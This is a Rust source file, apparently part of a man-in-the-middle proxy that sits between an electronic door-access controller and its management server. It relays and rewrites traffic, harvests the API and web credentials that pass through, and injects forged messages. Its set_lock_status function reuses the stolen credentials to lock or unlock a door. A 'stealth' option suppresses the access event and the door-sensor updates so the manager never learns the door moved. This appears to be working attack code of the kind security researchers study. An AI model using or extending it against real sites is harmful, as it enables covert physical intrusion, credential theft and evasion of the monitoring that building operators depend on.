//! Session construction, relay halves, injection, and error fan-out.

use std::sync::{Arc, Mutex as StdMutex};
use std::time::Duration;

use bytes::Bytes;
use chrono::{DateTime, Utc};
use eidc_protocol::builder::{lock_status_msg, LockStatus};
use eidc_protocol::controller::LoginInfo;
use eidc_protocol::controller::Point;
use eidc_protocol::{Direction, EventType, Message, MsgType};
use http_wire::{impersonate, HttpFramer};
use message_pager::Pager;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::mpsc;
use tokio::sync::{Mutex as AsyncMutex, OwnedMutexGuard};
use tracing::{debug, error, trace};
use uuid::Uuid;

use crate::builtin::{DropEvent, DropPointStatus, DropResponseByType, Resequencer};
use crate::error::SessionError;
use crate::latch::Latch;
use crate::state::{self, Credentials, SessionState};
use crate::transform::{TransformFlags, Transformer, Registry};

/// How long an error delivery waits on a full subscriber queue.
const ERROR_DELIVERY_TIMEOUT: Duration = Duration::from_millis(100);

/// Capacity of the per-direction injection inbox.
const INJECT_INBOX_CAPACITY: usize = 8;

/// Points reported by the door hardware when the strike is driven; the
/// stealth unlock suppresses their status updates.
const STEALTH_POINT_IDS: [i64; 3] = [12, 38, 16];

/// Address pair for one side of the proxied connection.
#[derive(Debug, Clone, Default)]
pub struct ConnectionDetail {
    pub client: String,
    pub server: String,
}

/// Both sides of a man-in-the-middled connection.
#[derive(Debug, Clone, Default)]
pub struct MitmEndpoints {
    /// Controller-facing socket: remote is the controller.
    pub client_side: ConnectionDetail,
    /// Manager-facing socket: remote is the real manager.
    pub server_side: ConnectionDetail,
}

struct SessionShared {
    id: Uuid,
    start_time: DateTime<Utc>,
    end_time: StdMutex<Option<DateTime<Utc>>>,
    login: LoginInfo,
    endpoints: MitmEndpoints,
    state: StdMutex<SessionState>,
    transformers: StdMutex<Registry>,
    resequencer: StdMutex<Resequencer>,
    relay_lock: Arc<AsyncMutex<()>>,
    inject_north: mpsc::Sender<Message>,
    inject_south: mpsc::Sender<Message>,
    pager: Pager,
    err_tx: mpsc::UnboundedSender<SessionError>,
    err_subs: AsyncMutex<Vec<mpsc::Sender<SessionError>>>,
    latch: Latch,
}

impl SessionShared {
    fn report(&self, err: SessionError) {
        let _ = self.err_tx.send(err);
    }

    /// Mark the session terminated. Idempotent; the first caller stamps
    /// the end time.
    fn end(&self) {
        {
            let mut end_time = self.end_time.lock().unwrap();
            if end_time.is_none() {
                *end_time = Some(Utc::now());
            }
        }
        self.latch.fire();
    }

    fn inject_sender(&self, direction: Direction) -> &mpsc::Sender<Message> {
        match direction {
            Direction::Northbound => &self.inject_north,
            Direction::Southbound => &self.inject_south,
        }
    }

    fn add_transformer(&self, transformer: Box<dyn Transformer>) -> u64 {
        self.transformers.lock().unwrap().add(transformer)
    }

    /// Install the provided transformers, mark the message injected, and
    /// queue it on its direction's inbox, all under the relay lock so
    /// the transformers are in place before any provoked response can
    /// race past them.
    async fn inject(&self, mut msg: Message, transformers: Vec<Box<dyn Transformer>>) {
        let _guard = self.relay_lock.lock().await;
        for transformer in transformers {
            self.add_transformer(transformer);
        }
        msg.set_injected(true);
        let direction = msg.direction();
        if self.inject_sender(direction).send(msg).await.is_err() {
            self.report(SessionError::Inject {
                message: format!("{direction} relay is gone; injected message discarded"),
            });
        }
    }
}

/// Cheap, cloneable handle to a live session, given to transformers and
/// detached tasks.
#[derive(Clone)]
pub struct SessionHandle {
    shared: Arc<SessionShared>,
}

impl SessionHandle {
    /// Manager API credentials observed on this session so far.
    pub fn api_credentials(&self) -> Credentials {
        self.shared.state.lock().unwrap().api_creds.clone()
    }

    /// Snapshot of the accumulated session state.
    pub fn state(&self) -> SessionState {
        self.shared.state.lock().unwrap().clone()
    }

    /// Inject a synthetic message, installing `transformers` first.
    pub async fn inject(&self, msg: Message, transformers: Vec<Box<dyn Transformer>>) {
        self.shared.inject(msg, transformers).await;
    }

    /// Fire-and-forget injection, usable from synchronous transformer
    /// code running on the relay task (where awaiting the relay lock
    /// would deadlock).
    pub fn inject_detached(&self, msg: Message, transformers: Vec<Box<dyn Transformer>>) {
        let shared = Arc::clone(&self.shared);
        tokio::spawn(async move {
            shared.inject(msg, transformers).await;
        });
    }

    /// Report an error on the session's error hub.
    pub fn report(&self, err: SessionError) {
        self.shared.report(err);
    }
}

/// A single proxied controller-manager connection.
pub struct Session {
    shared: Arc<SessionShared>,
    pre_wire_guard: StdMutex<Option<OwnedMutexGuard<()>>>,
}

impl Session {
    /// Wire up a session over two byte streams and start its relay tasks.
    ///
    /// `initial` carries any bytes already consumed from the controller
    /// socket during the login peek; they are replayed into the
    /// northbound framer so the login request itself is relayed.
    ///
    /// The session starts with the relay lock held: no message moves
    /// until [`begin_relaying`](Self::begin_relaying).
    pub fn spawn<C, S>(
        client: C,
        server: S,
        initial: Bytes,
        login: LoginInfo,
        endpoints: MitmEndpoints,
    ) -> Arc<Session>
    where
        C: AsyncRead + AsyncWrite + Send + 'static,
        S: AsyncRead + AsyncWrite + Send + 'static,
    {
        let relay_lock = Arc::new(AsyncMutex::new(()));
        let pre_wire_guard = relay_lock
            .clone()
            .try_lock_owned()
            .expect("fresh relay lock");

        let (xmit_north_tx, xmit_north_rx) = mpsc::channel(1);
        let (xmit_south_tx, xmit_south_rx) = mpsc::channel(1);
        let (inject_north_tx, inject_north_rx) = mpsc::channel(INJECT_INBOX_CAPACITY);
        let (inject_south_tx, inject_south_rx) = mpsc::channel(INJECT_INBOX_CAPACITY);
        let (err_tx, err_rx) = mpsc::unbounded_channel();

        let shared = Arc::new(SessionShared {
            id: Uuid::new_v4(),
            start_time: Utc::now(),
            end_time: StdMutex::new(None),
            state: StdMutex::new(SessionState {
                server_keys: vec![login.server_key.clone()],
                ..Default::default()
            }),
            login,
            endpoints,
            transformers: StdMutex::new(Registry::new()),
            resequencer: StdMutex::new(Resequencer::new()),
            relay_lock,
            inject_north: inject_north_tx,
            inject_south: inject_south_tx,
            pager: Pager::new(),
            err_tx,
            err_subs: AsyncMutex::new(Vec::new()),
            latch: Latch::new(),
        });

        let (client_read, client_write) = tokio::io::split(client);
        let (server_read, server_write) = tokio::io::split(server);

        tokio::spawn(relay_inbound(
            Direction::Northbound,
            client_read,
            initial,
            Arc::clone(&shared),
            xmit_north_tx,
        ));
        tokio::spawn(relay_outbound(
            Direction::Northbound,
            server_write,
            Arc::clone(&shared),
            xmit_north_rx,
            inject_north_rx,
        ));
        tokio::spawn(relay_inbound(
            Direction::Southbound,
            server_read,
            Bytes::new(),
            Arc::clone(&shared),
            xmit_south_tx,
        ));
        tokio::spawn(relay_outbound(
            Direction::Southbound,
            client_write,
            Arc::clone(&shared),
            xmit_south_rx,
            inject_south_rx,
        ));
        tokio::spawn(distribute_errors(err_rx, Arc::clone(&shared)));

        Arc::new(Session {
            shared,
            pre_wire_guard: StdMutex::new(Some(pre_wire_guard)),
        })
    }

    pub fn id(&self) -> Uuid {
        self.shared.id
    }

    pub fn login(&self) -> &LoginInfo {
        &self.shared.login
    }

    pub fn endpoints(&self) -> &MitmEndpoints {
        &self.shared.endpoints
    }

    pub fn start_time(&self) -> DateTime<Utc> {
        self.shared.start_time
    }

    pub fn end_time(&self) -> Option<DateTime<Utc>> {
        *self.shared.end_time.lock().unwrap()
    }

    /// Time since the session started.
    pub fn uptime(&self) -> chrono::Duration {
        Utc::now() - self.shared.start_time
    }

    /// The session's message fan-out.
    pub fn pager(&self) -> &Pager {
        &self.shared.pager
    }

    /// Release the relay lock taken at construction, starting message
    /// flow. Transformers and subscriptions installed before this call
    /// are guaranteed to see the session's first message.
    pub fn begin_relaying(&self) {
        let guard = self.pre_wire_guard.lock().unwrap().take();
        drop(guard);
    }

    /// Register a transformer; returns its id for manual removal.
    pub fn add_transformer(&self, transformer: Box<dyn Transformer>) -> u64 {
        self.shared.add_transformer(transformer)
    }

    pub fn remove_transformer(&self, id: u64) {
        self.shared.transformers.lock().unwrap().remove(id);
    }

    /// Inject a synthetic message into its direction's outbound queue,
    /// installing `transformers` first so they can intercept whatever the
    /// message provokes. Callers sending self-provoking messages should
    /// attach the matching [`DropResponseByType`].
    pub async fn inject(&self, msg: Message, transformers: Vec<Box<dyn Transformer>>) {
        self.shared.inject(msg, transformers).await;
    }

    /// Cheap handle for transformers and detached tasks.
    pub fn handle(&self) -> SessionHandle {
        SessionHandle {
            shared: Arc::clone(&self.shared),
        }
    }

    /// Subscribe to session errors. Buffered one deep like every other
    /// fan-out queue; a subscriber that stops reading only ever loses
    /// deliveries, never blocks the session.
    pub async fn subscribe_errors(&self) -> mpsc::Receiver<SessionError> {
        let (tx, rx) = mpsc::channel(1);
        self.shared.err_subs.lock().await.push(tx);
        rx
    }

    /// Resolve when the session has terminated.
    pub async fn done(&self) {
        self.shared.latch.wait().await;
    }

    pub fn is_terminated(&self) -> bool {
        self.shared.latch.is_fired()
    }

    // -- state accessors ----------------------------------------------------

    pub fn heartbeats(&self) -> u32 {
        self.shared.state.lock().unwrap().heartbeats
    }

    pub fn server_keys(&self) -> Vec<String> {
        self.shared.state.lock().unwrap().server_keys.clone()
    }

    pub fn events_enabled(&self) -> bool {
        self.shared.state.lock().unwrap().events_enabled
    }

    pub fn api_credentials(&self) -> Credentials {
        self.shared.state.lock().unwrap().api_creds.clone()
    }

    pub fn web_credentials(&self) -> Credentials {
        self.shared.state.lock().unwrap().web_creds.clone()
    }

    pub fn point_status(&self, point_id: i64) -> Option<Point> {
        self.shared
            .state
            .lock()
            .unwrap()
            .point_status
            .get(&point_id)
            .cloned()
    }

    /// Command the door lock via an injected southbound
    /// `door/lockstatus`, intercepting the controller's reply.
    ///
    /// With `stealth` set, the access event the action provokes is
    /// suppressed (and acked on the manager's behalf), and the point
    /// status updates from the strike and door sensors are dropped, so
    /// the manager never learns the door moved.
    pub fn set_lock_status(&self, status: LockStatus, stealth: bool) -> Result<(), SessionError> {
        let creds = self.api_credentials();
        let msg = lock_status_msg(&creds.username, &creds.password, status).map_err(|err| {
            SessionError::Inject {
                message: err.to_string(),
            }
        })?;

        let mut transformers: Vec<Box<dyn Transformer>> = vec![Box::new(
            DropResponseByType::new(MsgType::DoorLockStatusResponse),
        )];

        if stealth {
            let suppress = match status {
                LockStatus::Locked => EventType::ACCESS_RESTRICTED,
                LockStatus::Unlocked => EventType::ACCESS_GRANTED,
                LockStatus::Normal => EventType::ANY,
            };
            transformers.push(Box::new(DropEvent::one_shot(suppress)));
            for point in STEALTH_POINT_IDS {
                transformers.push(Box::new(DropPointStatus::new(point)));
            }
        }

        let handle = self.handle();
        tokio::spawn(async move {
            handle.inject(msg, transformers).await;
        });
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// relay halves
// ---------------------------------------------------------------------------

/// Read + transform half: frames bytes off the socket, parses them,
/// folds them into session state, and runs the transformer chain.
/// Survivors go to the outbound half; drops go straight to the pager.
async fn relay_inbound<R>(
    direction: Direction,
    mut reader: R,
    initial: Bytes,
    shared: Arc<SessionShared>,
    xmit: mpsc::Sender<Message>,
) where
    R: AsyncRead + Unpin + Send,
{
    let mut framer = HttpFramer::from_bytes(&initial[..]);
    let mut buf = vec![0u8; 8192];

    loop {
        // Drain everything already buffered before touching the socket.
        loop {
            if shared.latch.is_fired() {
                return;
            }
            match framer.next_frame() {
                Ok(Some(frame)) => process_inbound(direction, frame, &shared, &xmit).await,
                Ok(None) => break,
                Err(err) => {
                    error!(%direction, %err, "framing failed; terminating session");
                    shared.report(SessionError::Framing {
                        message: err.to_string(),
                    });
                    shared.end();
                    return;
                }
            }
        }

        tokio::select! {
            _ = shared.latch.wait() => return,
            read = reader.read(&mut buf) => match read {
                Ok(0) => {
                    trace!(%direction, "peer closed; terminating session");
                    if let Err(err) = framer.finish() {
                        shared.report(SessionError::Framing {
                            message: err.to_string(),
                        });
                    }
                    shared.end();
                    return;
                }
                Ok(n) => framer.extend(&buf[..n]),
                Err(err) => {
                    shared.report(SessionError::Read {
                        message: err.to_string(),
                    });
                    shared.end();
                    return;
                }
            }
        }
    }
}

async fn process_inbound(
    direction: Direction,
    frame: Bytes,
    shared: &Arc<SessionShared>,
    xmit: &mpsc::Sender<Message>,
) {
    let relay_guard = shared.relay_lock.lock().await;

    let mut msg = match Message::parse(frame, direction) {
        Ok(msg) => msg,
        Err(err) => {
            shared.report(SessionError::Parse {
                message: err.to_string(),
            });
            return;
        }
    };

    if let Err(err) = state::update(&shared.state, &msg) {
        shared.report(err);
    }

    let handle = SessionHandle {
        shared: Arc::clone(shared),
    };
    let dropped = {
        let mut errors = Vec::new();
        let mut registry = shared.transformers.lock().unwrap();
        let dropped = registry.run(&mut msg, &handle, &mut errors);
        drop(registry);
        for err in errors {
            shared.report(err);
        }
        dropped
    };

    if dropped {
        msg.mark_dropped();
        drop(relay_guard);
        shared.pager.distribute(&msg).await;
    } else {
        // Holding the relay lock across the hand-off keeps injection
        // from interleaving inside a message's transform-to-queue window.
        let _ = xmit.send(msg).await;
        drop(relay_guard);
    }
}

/// Resequence + write half: takes messages from the inter-half queue and
/// the injection inbox, normalizes southbound sequence numbers, publishes
/// to the pager, and writes impersonated bytes to the socket.
async fn relay_outbound<W>(
    direction: Direction,
    mut writer: W,
    shared: Arc<SessionShared>,
    mut xmit: mpsc::Receiver<Message>,
    mut inject: mpsc::Receiver<Message>,
) where
    W: AsyncWrite + Unpin + Send,
{
    let handle = SessionHandle {
        shared: Arc::clone(&shared),
    };

    loop {
        let mut msg = tokio::select! {
            _ = shared.latch.wait() => return,
            maybe = xmit.recv() => match maybe {
                Some(msg) => msg,
                None => return,
            },
            maybe = inject.recv() => match maybe {
                Some(msg) => msg,
                None => return,
            },
        };

        if direction == Direction::Southbound && msg.is_request() {
            let verdict = shared
                .resequencer
                .lock()
                .unwrap()
                .transform(&mut msg, &handle);
            if verdict.flags.contains(TransformFlags::ERR) || verdict.error.is_some() {
                shared.report(verdict.error.unwrap_or_else(|| SessionError::Transformer {
                    message: "unspecified resequencer error".into(),
                }));
            }
        }

        shared.pager.distribute(&msg).await;

        let payload = match msg.marshal() {
            Ok(payload) => payload,
            Err(err) => {
                shared.report(SessionError::Marshal {
                    message: format!("{err}; passing message unmodified"),
                });
                msg.orig_bytes().to_vec()
            }
        };

        let wire = match impersonate(&payload, direction) {
            Ok(wire) => wire,
            Err(err) => {
                shared.report(SessionError::Impersonate {
                    message: format!("{err}; passing message unmodified"),
                });
                payload
            }
        };

        if let Err(err) = writer.write_all(&wire).await {
            shared.report(SessionError::Write {
                message: err.to_string(),
            });
            shared.end();
            return;
        }
        if let Err(err) = writer.flush().await {
            shared.report(SessionError::Write {
                message: err.to_string(),
            });
            shared.end();
            return;
        }
        debug!(%direction, msg_type = %msg.msg_type(), injected = msg.injected(), "relayed");
    }
}

/// Fans each reported error out to every subscriber with a timed send.
async fn distribute_errors(
    mut rx: mpsc::UnboundedReceiver<SessionError>,
    shared: Arc<SessionShared>,
) {
    loop {
        tokio::select! {
            maybe = rx.recv() => match maybe {
                Some(err) => fan_out_error(&shared, err).await,
                None => return,
            },
            _ = shared.latch.wait() => {
                // Session over: deliver anything still queued, then exit.
                while let Ok(err) = rx.try_recv() {
                    fan_out_error(&shared, err).await;
                }
                return;
            }
        }
    }
}

async fn fan_out_error(shared: &SessionShared, err: SessionError) {
    let mut subs = shared.err_subs.lock().await;
    let mut closed = Vec::new();
    for (index, tx) in subs.iter().enumerate() {
        match tokio::time::timeout(ERROR_DELIVERY_TIMEOUT, tx.send(err.clone())).await {
            Ok(Ok(())) => {}
            Ok(Err(_)) => closed.push(index),
            // Subscriber had its chance; skip this delivery.
            Err(_) => {}
        }
    }
    for index in closed.into_iter().rev() {
        subs.remove(index);
    }
}
